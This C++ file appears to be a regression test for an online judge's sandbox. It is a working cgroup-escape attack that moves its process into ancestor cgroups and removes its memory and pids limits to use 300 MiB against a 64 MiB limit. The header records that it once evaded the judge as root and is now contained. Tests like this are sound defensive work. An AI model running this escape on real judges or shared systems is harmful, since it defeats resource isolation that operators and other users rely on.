/**
 * Attack (issue 12): leave the run's cgroups (or lift their limits), then use 300 MiB under
 *         a+b's 64 MiB memory limit.
 * Problem: aplusb of judge/testroot (memory-limit-mib: 64)
 * How: for every hierarchy of /proc/self/cgroup, writes its pid into cgroup.procs of each
 *   ancestor of its cgroup, nearest first (the judge's pool, then up to the root), under
 *   /sys/fs/cgroup/<controllers> (v1) and /sys/fs/cgroup{,/unified} (v2); writes -1 / max to
 *   its own memory.limit_in_bytes, memory.memsw.limit_in_bytes, memory.max and pids.max. Then
 *   maps 300 MiB (MAP_POPULATE) and writes every page.
 * Prints: a + b. Contained = MLE (never AC).
 * Status: got through the judge before the sandbox (a35ce73) as root: AC, peak 0.4 MiB; as
 *   nobody there is no cgroup to leave (the /proc poll said MLE). Contained (MLE) by the
 *   sandbox as root and as nobody.
 */
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>

bool write_text(const char* path, const char* text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return false;
    size_t length = strlen(text);
    bool ok = write(fd, text, length) == static_cast<ssize_t>(length);
    close(fd);
    return ok;
}

int main() {
    long long a = 0, b = 0;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;

    int moved = 0;
    char pid[32];
    snprintf(pid, sizeof pid, "%d\n", getpid());
    if (FILE* file = fopen("/proc/self/cgroup", "r")) {
        char line[4096];
        while (fgets(line, sizeof line, file)) {
            // "id:controllers:/path"; v2 has empty controllers.
            char* first = strchr(line, ':');
            char* second = first ? strchr(first + 1, ':') : nullptr;
            if (!second) continue;
            *second = '\0';
            const char* controllers = first + 1;
            char* path = second + 1;
            size_t length = strlen(path);
            while (length > 0 && (path[length - 1] == '\n' || path[length - 1] == '/')) --length;
            path[length] = '\0';
            char mounts[2][4200];
            int mount_count = 0;
            if (*controllers == '\0') {
                strcpy(mounts[mount_count++], "/sys/fs/cgroup/unified");
                strcpy(mounts[mount_count++], "/sys/fs/cgroup");
            } else {
                if (strncmp(controllers, "name=", 5) == 0) controllers += 5;
                snprintf(mounts[mount_count++], sizeof mounts[0], "/sys/fs/cgroup/%s", controllers);
                if (const char* comma = strchr(controllers, ','))
                    snprintf(mounts[mount_count++], sizeof mounts[0], "/sys/fs/cgroup/%.*s",
                             static_cast<int>(comma - controllers), controllers);
            }
            static const char* const kFileNames[] = {"memory.limit_in_bytes",
                                                     "memory.memsw.limit_in_bytes", "memory.max",
                                                     "memory.high", "pids.max"};
            char target[12800];
            for (int m = 0; m < mount_count; ++m) {
                for (const char* file_name : kFileNames) {
                    const char* value = strstr(file_name, "limit") ? "-1\n" : "max\n";
                    snprintf(target, sizeof target, "%s%s/%s", mounts[m], path, file_name);
                    write_text(target, value);
                }
                // Nearest ancestor first: leaving the run's cgroup is enough to escape it.
                char ancestor[4096];
                strcpy(ancestor, path);
                bool done = false;
                while (!done && ancestor[0] != '\0') {
                    if (char* slash = strrchr(ancestor, '/')) *slash = '\0';
                    snprintf(target, sizeof target, "%s%s/cgroup.procs", mounts[m], ancestor);
                    if (write_text(target, pid) || write_text(target, "0\n")) {
                        ++moved;
                        done = true;
                    }
                }
            }
        }
        fclose(file);
    }
    fprintf(stderr, "cgroup_escape: moved to %d other cgroups\n", moved);

    // MAP_POPULATE: the kernel maps every page at once, far cheaper than 76 800 page faults
    // (which take over 1 s of CPU on a slow VM: TLE would hide the escape).
    const size_t bytes = size_t{300} << 20;
    void* mapped = mmap(nullptr, bytes, PROT_READ | PROT_WRITE,
                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    if (mapped == MAP_FAILED) return 3;
    volatile char* memory = static_cast<char*>(mapped);  // volatile: really written
    for (size_t i = 0; i < bytes; i += 4096) memory[i] = 1;
    long long touched = 0;
    for (size_t i = 0; i < bytes; i += 4096) touched += memory[i];
    printf("%lld\n", a + b + touched - static_cast<long long>(bytes / 4096));
}
